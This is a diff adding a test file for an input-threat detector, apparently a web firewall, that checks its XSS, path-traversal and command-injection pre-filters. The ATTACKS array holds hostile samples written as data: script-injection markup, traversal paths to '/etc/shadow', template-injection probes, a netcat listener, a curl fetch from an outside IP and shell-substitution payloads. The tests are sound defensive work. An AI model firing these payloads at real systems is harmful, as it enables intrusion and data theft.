@@ -1,0 +1,131 @@
+import assert from 'node:assert/strict';
+import { existsSync, readFileSync } from 'node:fs';
+import { dirname, resolve } from 'node:path';
+import { describe, it } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import * as cc from '../../../src/threat/decode/charclass.js';
+import { decodeValue } from '../../../src/threat/decode/normalize.js';
+import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';
+import { inspectValue, mayBeCmdi, mayBeTraversal, mayBeXss } from '../../../src/threat/detectors/index.js';
+import { detectJsExpression } from '../../../src/threat/detectors/js-expression.js';
+import { detectTraversal } from '../../../src/threat/detectors/traversal.js';
+import { detectXss } from '../../../src/threat/detectors/xss.js';
+
+const root = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..');
+
+describe('charClasses', () => {
+  it('sets one distinct bit per syntax character', () => {
+    const cases: Array<[string, number]> = [['<', cc.C_LT], ['>', cc.C_GT], [':', cc.C_COLON], ['(', cc.C_PAREN], ['`', cc.C_BACKTICK],
+      ['=', cc.C_EQ], ['{', cc.C_BRACE], ["'", cc.C_SQUOTE], ['"', cc.C_DQUOTE], ['.', cc.C_DOT], ['/', cc.C_SLASH], ['\\', cc.C_BACKSLASH],
+      ['%', cc.C_PERCENT], ['&', cc.C_AMP], ['+', cc.C_PLUS], [';', cc.C_SEMI], ['|', cc.C_PIPE], ['$', cc.C_DOLLAR], ['\n', cc.C_NEWLINE]];
+    const seen = new Set<number>();
+    for (const [ch, bit] of cases) {
+      assert.equal(cc.charClasses(`a${ch}b`), bit, ch);
+      assert.ok(!seen.has(bit), `bit of ${ch} is shared`);
+      seen.add(bit);
+    }
+    assert.equal(cc.charClasses('plain words 123 _-,!?@#'), 0);
+  });
+
+  it('marks spelled-out hex, wide characters and the 7-bit fraction', () => {
+    assert.equal(cc.charClasses('0x2e') & cc.C_HEX_PREFIX, cc.C_HEX_PREFIX);
+    assert.equal(cc.charClasses('0X2F') & cc.C_HEX_PREFIX, cc.C_HEX_PREFIX);
+    assert.equal(cc.charClasses('x0 box'), 0);
+    assert.equal(cc.charClasses('a ADw-'), cc.C_SPACE_A);
+    assert.equal(cc.charClasses('aA bA'), 0);
+    assert.equal(cc.charClasses('Seán'), cc.C_WIDE);
+    assert.equal(cc.charClasses('\u00bcscript\u00be'), cc.C_FRACTION | cc.C_WIDE);
+  });
+
+  it('is what decodeValue reports for the url and full readings', () => {
+    const d = decodeValue('%3Cb%3E &lt;i&gt;');
+    assert.equal(d.urlClasses, cc.charClasses(d.url));
+    assert.equal(d.fullClasses, cc.charClasses(d.full));
+    assert.equal(d.fullClasses & cc.C_LT, cc.C_LT);
+  });
+});
+
+/** Values a pre-filter must pass on: attacks written for this test, in the shapes the detectors read. */
+const ATTACKS = [
+  '<svg/onload=confirm(7)>', '"><img src=x onerror=print()>', 'javascript:void(open())', '\u00bciframe\u00be', '%22', '%3E%3C',
+  'x" onfocus="top.location=name', '{{constructor.constructor(1)()}}', 'alert`9`', 'data:text/html;base64,PHA+',
+  '../../../boot.ini', '..\\..\\win.ini', '/etc/shadow', 'C:\\Windows\\System32\\drivers', 'php://input', 'file:///etc/hosts',
+  '0x2e0x2e0x2fetc0x2fshadow', '..2f..2fetc2fshadow', '%c0%ae%c0%ae%c0%af', '%u002e%u002e%u2215etc', '%2e%2e%5cwin.ini',
+  'ＪavaScript：alert（1）', 'uname -a', 'curl.exe http://198.51.100.7/x', '; nslookup example.net', 'a|id', '$(sleep 4)', '`uptime`',
+  'x\ncat etc/group', 'n\'c\' -lvp 4444', '{{ self.__init__.__globals__ }}', 'ping+-c+3+10.0.0.1', '\u212Aill -9 1', '\\u003csvg onload=alert(1)\\u003e', '&#x3C;script&#x3E;', '+ADw-script+AD4-',
+];
+/** Benign near-misses: prose, names, ids, amounts. */
+const BENIGN = ["Seán O'Brien", 'whoami lyrics', 'Kill Bill', 'sean.obrien@example.com', 'Order 1234 — please ship Tuesday', 'x0 box', 'O(n) time', 'a = b', 'v1.2.3', 'see https://example.com/a'];
+
+function corpus(): string[] {
+  const out: string[] = [];
+  const files = [resolve(root, 'test/fixtures/threat/benign-api.jsonl')];
+  const shared = process.env.PORTCULLIS_CORPUS ?? resolve(root, '..', 'shared', 'corpus');
+  for (const f of ['attacks.jsonl', 'benign.jsonl']) if (existsSync(resolve(shared, f))) files.push(resolve(shared, f));
+  for (const f of files) {
+    if (!existsSync(f)) continue;
+    for (const l of readFileSync(f, 'utf8').split('\n')) if (l.trim() !== '') out.push((JSON.parse(l) as { payload: string }).payload);
+  }
+  return out;
+}
+
+/** Each value, and the value with each family's syntax characters removed (so the filter says no). */
+function samples(): string[] {
+  const base = [...ATTACKS, ...BENIGN, ...corpus()];
+  const out: string[] = [];
+  for (const v of base) {
+    out.push(v, v.replace(/[<>:(`={]/g, ' '), v.replace(/[./\\:]/g, ''), v.replace(/[<>:(`={./\\]/g, ''), v.replace(/[;|&\n\r`$<>{(%/\\'"+]/g, ' '));
+  }
+  return out;
+}
+
+describe('detector pre-filters are necessary conditions', () => {
+  const values = samples();
+
+  it('markup/script: no finding from xss.ts or js-expression.ts when mayBeXss says no', () => {
+    let skipped = 0;
+    for (const v of values) {
+      const d = decodeValue(v);
+      if (mayBeXss(d)) continue;
+      skipped++;
+      assert.equal(detectXss(d.full, d.raw).confidence, 0, `xss on ${JSON.stringify(v)}`);
+      assert.equal(detectJsExpression(d.full).confidence, 0, `js on ${JSON.stringify(v)}`);
+    }
+    assert.ok(skipped > 0);
+  });
+
+  it('paths: no finding from traversal.ts when mayBeTraversal says no', () => {
+    let skipped = 0;
+    for (const v of values) {
+      const d = decodeValue(v);
+      if (mayBeTraversal(d)) continue;
+      skipped++;
+      assert.equal(detectTraversal(d).confidence, 0, `traversal on ${JSON.stringify(v)}`);
+    }
+    assert.ok(skipped > 0);
+  });
+
+  it('commands: no finding from cmdi.ts when mayBeCmdi says no', () => {
+    let skipped = 0;
+    for (const v of values) {
+      const d = decodeValue(v);
+      if (mayBeCmdi(d)) continue;
+      skipped++;
+      assert.equal(detectCmdi(d).confidence, 0, `cmdi on ${JSON.stringify(v)}`);
+    }
+    assert.ok(skipped > 0);
+  });
+
+  it('reads a value that opens with a command name even without shell syntax', () => {
+    for (const v of ['uname -a', 'whoami', 'Kill Bill', 'ipconfig.exe', '\u212Aill 1']) assert.ok(mayBeCmdi(decodeValue(v)), v);
+    for (const v of ['Dublin', 'SKU-1234-XL', 'sean.obrien@example.com', 'order 66 shipped']) assert.ok(!mayBeCmdi(decodeValue(v)), v);
+  });
+
+  it('lets every attack of this file through to its detector', () => {
+    for (const v of ATTACKS) {
+      const d = decodeValue(v);
+      assert.ok(mayBeXss(d) || mayBeTraversal(d) || mayBeCmdi(d), v);
+      assert.ok(inspectValue(v).length > 0, `no finding for ${v}`);
+    }
+  });
+});
